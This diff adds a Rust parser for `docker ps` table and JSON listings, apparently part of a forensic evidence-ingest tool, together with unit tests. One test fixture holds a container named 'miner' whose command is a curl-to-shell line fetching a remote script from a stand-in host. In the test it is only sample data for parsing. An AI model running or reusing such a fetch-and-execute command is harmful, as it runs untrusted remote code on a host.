@@ -1,17 +1,420 @@
-//! `docker ps` listings (PLACEHOLDER: to be completed by the ps-listing work).
+//! `docker ps` listings (`ps`, `ps -a`, `--no-trunc`, `--format table ...`, `--format json`
+//! / `{{json .}}` lines). Table columns are cut at the header's positions (counted in
+//! characters, as Go's tabwriter aligns them), since values hold single spaces.
+
+use std::io::{BufRead, BufReader, Read};
 
 use serde::Serialize;
+use serde_json::Value;
 
 use crate::evidence::Artifact;
-use crate::model::Diagnostic;
+use crate::ingest::inspect::{parse_port_list, PortMapping};
+use crate::ingest::stats::split_cells;
+use crate::model::{display_bytes, Diagnostic, Locator, Timestamp};
+
+/// Longest line read; longer ones are skipped with a warning.
+const MAX_LINE: u64 = 1 << 20;
 
 /// One `docker ps` row.
 #[derive(Clone, Debug, Default, Serialize)]
 pub struct PsRow {
     pub container_id: String,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub image: Option<String>,
+    /// The command as listed (quotes removed; `…` marks truncation without `--no-trunc`).
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub command: Option<String>,
+    /// `CREATED` as shown (`2 hours ago`).
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub created: Option<String>,
+    /// Absolute creation time (`CreatedAt`, JSON or `CREATED AT` column).
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub created_at: Option<Timestamp>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub status: Option<String>,
+    /// `running`, `exited`, `created`, `paused`, `restarting`, `dead`, `removing`.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub state: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub exit_code: Option<i64>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub health: Option<String>,
+    pub ports: Vec<PortMapping>,
+    pub names: Vec<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub size: Option<String>,
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub networks: Vec<String>,
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub mounts: Vec<String>,
+    pub locator: Locator,
+}
+
+impl PsRow {
+    /// The first name, else the id.
+    pub fn handle(&self) -> &str {
+        self.names.first().map(String::as_str).unwrap_or(&self.container_id)
+    }
+
+    /// True when the row says the container is up.
+    pub fn is_running(&self) -> bool {
+        matches!(self.state.as_deref(), Some("running" | "paused" | "restarting"))
+    }
 }
 
 /// Parse a ps listing artifact.
-pub fn parse(_artifact: &Artifact) -> (Vec<PsRow>, Vec<Diagnostic>) {
-    (vec![], vec![])
+pub fn parse(artifact: &Artifact) -> (Vec<PsRow>, Vec<Diagnostic>) {
+    let loc = artifact.locator();
+    match artifact.open() {
+        Ok(r) => parse_reader(r, &loc),
+        Err(e) => (vec![], vec![Diagnostic::error(loc, format!("cannot open: {e}"))]),
+    }
+}
+
+/// A table header: column names and the character position each starts at.
+struct Header {
+    cols: Vec<(String, usize)>,
+}
+
+impl Header {
+    fn parse(line: &str) -> Option<Header> {
+        let cells = cells_with_pos(line);
+        let has = |want: &str| cells.iter().any(|(c, _)| c.eq_ignore_ascii_case(want));
+        (has("CONTAINER ID") || (has("IMAGE") && has("NAMES")))
+            .then(|| Header { cols: cells.into_iter().map(|(c, p)| (c.to_ascii_uppercase(), p)).collect() })
+    }
+
+    /// Cut `line` at the header's positions; None when a value runs across a boundary.
+    fn cut(&self, line: &str) -> Option<Vec<String>> {
+        let chars: Vec<char> = line.chars().collect();
+        let mut out = vec![];
+        for (i, (_, start)) in self.cols.iter().enumerate() {
+            let end = self.cols.get(i + 1).map_or(chars.len(), |(_, s)| *s).min(chars.len());
+            let start = (*start).min(chars.len());
+            if start > 0 && start < chars.len() && chars[start - 1] != ' ' && chars[start] != ' ' {
+                return None;
+            }
+            out.push(chars[start..end.max(start)].iter().collect::<String>().trim().to_string());
+        }
+        Some(out)
+    }
+}
+
+/// Cells separated by 2+ spaces, with their starting character position.
+fn cells_with_pos(line: &str) -> Vec<(String, usize)> {
+    let mut out = vec![];
+    let mut pos = 0usize;
+    let chars: Vec<char> = line.chars().collect();
+    while pos < chars.len() {
+        while pos < chars.len() && chars[pos] == ' ' {
+            pos += 1;
+        }
+        if pos >= chars.len() {
+            break;
+        }
+        let start = pos;
+        while pos < chars.len() && !(chars[pos] == ' ' && chars.get(pos + 1).map_or(true, |c| *c == ' ')) {
+            pos += 1;
+        }
+        out.push((chars[start..pos].iter().collect(), start));
+    }
+    out
+}
+
+/// Parse a ps listing from a reader; `loc` names the artifact.
+pub fn parse_reader(reader: impl Read, loc: &Locator) -> (Vec<PsRow>, Vec<Diagnostic>) {
+    let mut rows = vec![];
+    let mut diags = vec![];
+    let mut reader = BufReader::new(reader);
+    let mut header: Option<Header> = None;
+    let mut buf = Vec::new();
+    let mut n = 0u64;
+    loop {
+        buf.clear();
+        match (&mut reader).take(MAX_LINE).read_until(b'\n', &mut buf) {
+            Ok(0) => break,
+            Ok(_) => {}
+            Err(e) => {
+                diags.push(Diagnostic::error(loc.clone().with_line(n + 1), format!("read error: {e}")));
+                break;
+            }
+        }
+        n += 1;
+        let at = loc.clone().with_line(n);
+        if buf.len() as u64 >= MAX_LINE && !buf.ends_with(b"\n") {
+            diags.push(Diagnostic::warning(at, "line longer than 1 MiB; skipped"));
+            let mut sink = Vec::new();
+            let _ = reader.read_until(b'\n', &mut sink);
+            continue;
+        }
+        let text = display_bytes(&buf).replace('\t', "    ");
+        let line = text.trim_end_matches(['\n', '\r']);
+        if line.trim().is_empty() {
+            continue;
+        }
+        if line.trim_start().starts_with('{') {
+            match serde_json::from_str::<Value>(line) {
+                Ok(Value::Object(o)) => rows.push(json_row(&o, at)),
+                Ok(_) => diags.push(Diagnostic::warning(at, "JSON line is not an object; skipped")),
+                Err(e) => {
+                    diags.push(Diagnostic::warning(at, format!("invalid JSON at column {}: {e}", e.column())))
+                }
+            }
+            continue;
+        }
+        if let Some(h) = Header::parse(line) {
+            header = Some(h);
+            continue;
+        }
+        let Some(h) = &header else {
+            diags.push(Diagnostic::warning(at, "row before any `docker ps` header; skipped"));
+            continue;
+        };
+        // Positions first; a row whose values overflow their columns still parses when it
+        // splits into exactly as many 2+-space cells as the header has.
+        let cells = h.cut(line).or_else(|| {
+            let c = split_cells(line);
+            (c.len() == h.cols.len()).then_some(c)
+        });
+        match cells {
+            Some(c) if plausible(h, &c) => rows.push(table_row(h, &c, at)),
+            _ => diags
+                .push(Diagnostic::warning(at, "row does not line up with the `docker ps` header; skipped")),
+        }
+    }
+    (rows, diags)
+}
+
+/// A row worth keeping: a hex container id when the listing has that column, else a name.
+fn plausible(h: &Header, cells: &[String]) -> bool {
+    let at = |name: &str| h.cols.iter().position(|(c, _)| c == name).and_then(|i| cells.get(i));
+    match at("CONTAINER ID") {
+        Some(id) => id.len() >= 12 && id.bytes().all(|b| b.is_ascii_hexdigit()),
+        None => at("NAMES").is_some_and(|n| !n.is_empty()),
+    }
+}
+
+fn table_row(h: &Header, cells: &[String], at: Locator) -> PsRow {
+    let col = |name: &str| {
+        h.cols
+            .iter()
+            .position(|(c, _)| c == name)
+            .and_then(|i| cells.get(i))
+            .filter(|v| !v.is_empty())
+            .cloned()
+    };
+    let mut row = PsRow {
+        container_id: col("CONTAINER ID").unwrap_or_default(),
+        image: col("IMAGE"),
+        command: col("COMMAND").map(unquote),
+        created: col("CREATED"),
+        created_at: col("CREATED AT").as_deref().and_then(parse_created_at),
+        size: col("SIZE"),
+        names: split_list(col("NAMES")),
+        networks: split_list(col("NETWORKS")),
+        mounts: split_list(col("MOUNTS")),
+        locator: at,
+        ..Default::default()
+    };
+    row.ports = parse_port_list(&col("PORTS").unwrap_or_default()).0;
+    set_status(&mut row, col("STATUS"), col("STATE"));
+    row
+}
+
+fn json_row(o: &serde_json::Map<String, Value>, at: Locator) -> PsRow {
+    let s = |k: &str| o.get(k).and_then(Value::as_str).filter(|v| !v.is_empty()).map(str::to_string);
+    let mut row = PsRow {
+        container_id: s("ID").unwrap_or_default(),
+        image: s("Image"),
+        command: s("Command").map(unquote),
+        created: s("RunningFor"),
+        created_at: s("CreatedAt").as_deref().and_then(parse_created_at),
+        size: s("Size"),
+        names: split_list(s("Names")),
+        networks: split_list(s("Networks")),
+        mounts: split_list(s("Mounts")),
+        locator: at,
+        ..Default::default()
+    };
+    row.ports = parse_port_list(&s("Ports").unwrap_or_default()).0;
+    set_status(&mut row, s("Status"), s("State"));
+    row
+}
+
+fn split_list(v: Option<String>) -> Vec<String> {
+    v.map(|v| v.split(',').map(|x| x.trim().to_string()).filter(|x| !x.is_empty()).collect())
+        .unwrap_or_default()
+}
+
+fn unquote(s: String) -> String {
+    match s.strip_prefix('"').and_then(|r| r.strip_suffix('"')) {
+        Some(inner) => inner.to_string(),
+        None => s,
+    }
+}
+
+/// `2026-11-27 14:00:00 +0000 UTC` (Go's default time format, as `CreatedAt` shows it).
+fn parse_created_at(s: &str) -> Option<Timestamp> {
+    let mut parts = s.split_whitespace();
+    let (date, time) = (parts.next()?, parts.next()?);
+    let zone = parts.next().filter(|z| z.starts_with(['+', '-'])).unwrap_or("Z");
+    Timestamp::parse_rfc3339(&format!("{date}T{time}{zone}"))
+}
+
+/// State, exit code and health from a STATUS text (`Up 2 hours (healthy)`,
+/// `Exited (137) 5 minutes ago`, `Up 3 minutes (Paused)`, `Restarting (1) 2 seconds ago`).
+fn set_status(row: &mut PsRow, status: Option<String>, state: Option<String>) {
+    if let Some(st) = &status {
+        let lower = st.to_ascii_lowercase();
+        let derived = if lower.starts_with("up") {
+            if lower.contains("(paused)") {
+                "paused"
+            } else {
+                "running"
+            }
+        } else if lower.starts_with("exited") {
+            "exited"
+        } else if lower.starts_with("restarting") {
+            "restarting"
+        } else if lower.starts_with("created") {
+            "created"
+        } else if lower.starts_with("dead") {
+            "dead"
+        } else if lower.starts_with("removal") {
+            "removing"
+        } else {
+            ""
+        };
+        if !derived.is_empty() {
+            row.state = Some(derived.into());
+        }
+        let paren = |s: &str| -> Vec<String> {
+            s.split('(')
+                .skip(1)
+                .filter_map(|p| p.split_once(')').map(|(x, _)| x.trim().to_string()))
+                .collect()
+        };
+        for p in paren(st) {
+            if let Ok(code) = p.parse::<i64>() {
+                row.exit_code = Some(code);
+            } else if let Some(h) = p.strip_prefix("health: ") {
+                row.health = Some(h.to_string());
+            } else if matches!(p.as_str(), "healthy" | "unhealthy") {
+                row.health = Some(p);
+            }
+        }
+    }
+    if let Some(s) = state {
+        row.state = Some(s.to_ascii_lowercase());
+    }
+    row.status = status;
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn loc() -> Locator {
+        Locator::artifact("ps.txt")
+    }
+
+    /// Lay rows out as Go's tabwriter does for `docker ps` (cells padded to the column
+    /// width plus 3 spaces; widths in characters).
+    fn tabwrite(rows: &[&[&str]]) -> String {
+        let cols = rows[0].len();
+        let width: Vec<usize> =
+            (0..cols).map(|i| rows.iter().map(|r| r[i].chars().count()).max().unwrap_or(0)).collect();
+        let mut out = String::new();
+        for r in rows {
+            let line: String =
+                r.iter().enumerate().map(|(i, c)| format!("{c:<w$}", w = width[i] + 3)).collect();
+            out.push_str(line.trim_end());
+            out.push('\n');
+        }
+        out
+    }
+
+    #[test]
+    fn table_with_spaces_in_values() {
+        let text = "\
+CONTAINER ID   IMAGE          COMMAND                  CREATED        STATUS                      PORTS                                                                                  NAMES
+4f2a9c1be0d3   tomcat:8.5     \"catalina.sh run\"        2 hours ago    Up 2 hours (healthy)        0.0.0.0:81->8080/tcp, :::81->8080/tcp                                                  web
+9c1e7b2a8f00   mysql:5.7      \"docker-entrypoint.s…\"   3 days ago     Exited (137) 5 minutes ago                                                                                         db
+aa00bb11cc22   app:1          \"/start\"                 3 days ago     Up 3 minutes (Paused)       0.0.0.0:8000-8010->8000-8010/tcp, 3306/tcp                                             api,web/api_link
+junk
+";
+        let (rows, d) = parse_reader(text.as_bytes(), &loc());
+        assert_eq!(rows.len(), 3, "{d:?}");
+        assert_eq!(d.len(), 1);
+        assert_eq!(d[0].locator.line, Some(5));
+        let web = &rows[0];
+        assert_eq!(web.container_id, "4f2a9c1be0d3");
+        assert_eq!(web.command.as_deref(), Some("catalina.sh run"));
+        assert_eq!(web.created.as_deref(), Some("2 hours ago"));
+        assert_eq!(web.status.as_deref(), Some("Up 2 hours (healthy)"));
+        assert_eq!((web.state.as_deref(), web.health.as_deref()), (Some("running"), Some("healthy")));
+        assert_eq!(web.ports.len(), 2);
+        assert_eq!(web.names, ["web"]);
+        assert_eq!(web.locator.line, Some(2));
+        let db = &rows[1];
+        assert_eq!(db.command.as_deref(), Some("docker-entrypoint.s…"));
+        assert_eq!((db.state.as_deref(), db.exit_code), (Some("exited"), Some(137)));
+        assert!(db.ports.is_empty());
+        assert!(!db.is_running());
+        let api = &rows[2];
+        assert_eq!(api.state.as_deref(), Some("paused"));
+        assert_eq!(api.ports[0].host_port.as_deref(), Some("8000-8010"));
+        assert_eq!(api.names, ["api", "web/api_link"]);
+    }
+
+    #[test]
+    fn no_trunc_and_size_columns() {
+        let id = "4f2a9c1be0d3aa55e0f1c2d3b4a5968778695a4b3c2d1e0f9a8b7c6d5e4f3a2b";
+        let text = tabwrite(&[
+            &["CONTAINER ID", "IMAGE", "COMMAND", "CREATED", "STATUS", "PORTS", "NAMES", "SIZE"],
+            &[
+                id,
+                "sha256:aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44",
+                "\"/bin/sh -c 'curl http://x/m.sh | sh'\"",
+                "45 minutes ago",
+                "Created",
+                "",
+                "miner",
+                "0B (virtual 5.6MB)",
+            ],
+        ]);
+        let (rows, d) = parse_reader(text.as_bytes(), &loc());
+        assert!(d.is_empty(), "{d:?}");
+        assert_eq!(rows[0].container_id, id);
+        assert_eq!(rows[0].command.as_deref(), Some("/bin/sh -c 'curl http://x/m.sh | sh'"));
+        assert_eq!(rows[0].state.as_deref(), Some("created"));
+        assert_eq!(rows[0].names, ["miner"]);
+        assert_eq!(rows[0].size.as_deref(), Some("0B (virtual 5.6MB)"));
+    }
+
+    #[test]
+    fn json_lines() {
+        let text = r#"{"Command":"\"catalina.sh run\"","CreatedAt":"2026-11-27 13:58:01 +0000 UTC","ID":"4f2a9c1be0d3","Image":"tomcat:8.5","Labels":"","LocalVolumes":"0","Mounts":"/var/run/docker.sock","Names":"web","Networks":"bridge,backend","Ports":"0.0.0.0:81->8080/tcp","RunningFor":"2 hours ago","Size":"0B","State":"running","Status":"Up 2 hours"}
+{"broken"
+"#;
+        let (rows, d) = parse_reader(text.as_bytes(), &loc());
+        assert_eq!(rows.len(), 1);
+        assert_eq!(d.len(), 1);
+        assert_eq!(d[0].locator.line, Some(2));
+        let r = &rows[0];
+        assert_eq!(r.created_at.unwrap().to_iso(), "2026-11-27T13:58:01.000000000Z");
+        assert_eq!(r.networks, ["bridge", "backend"]);
+        assert_eq!(r.state.as_deref(), Some("running"));
+        assert!(r.ports[0].is_public());
+    }
+
+    #[test]
+    fn misaligned_row_falls_back_to_wide_gaps() {
+        let text = "CONTAINER ID   IMAGE   COMMAND   CREATED   STATUS   PORTS   NAMES\n\
+                    4f2a9c1be0d3aa   tomcat   \"sh\"   1 hour ago   Up 1 hour   80/tcp   web\n";
+        let (rows, d) = parse_reader(text.as_bytes(), &loc());
+        assert!(d.is_empty(), "{d:?}");
+        assert_eq!(rows[0].names, ["web"]);
+        assert_eq!(rows[0].ports[0].container_port, "80");
+    }
 }
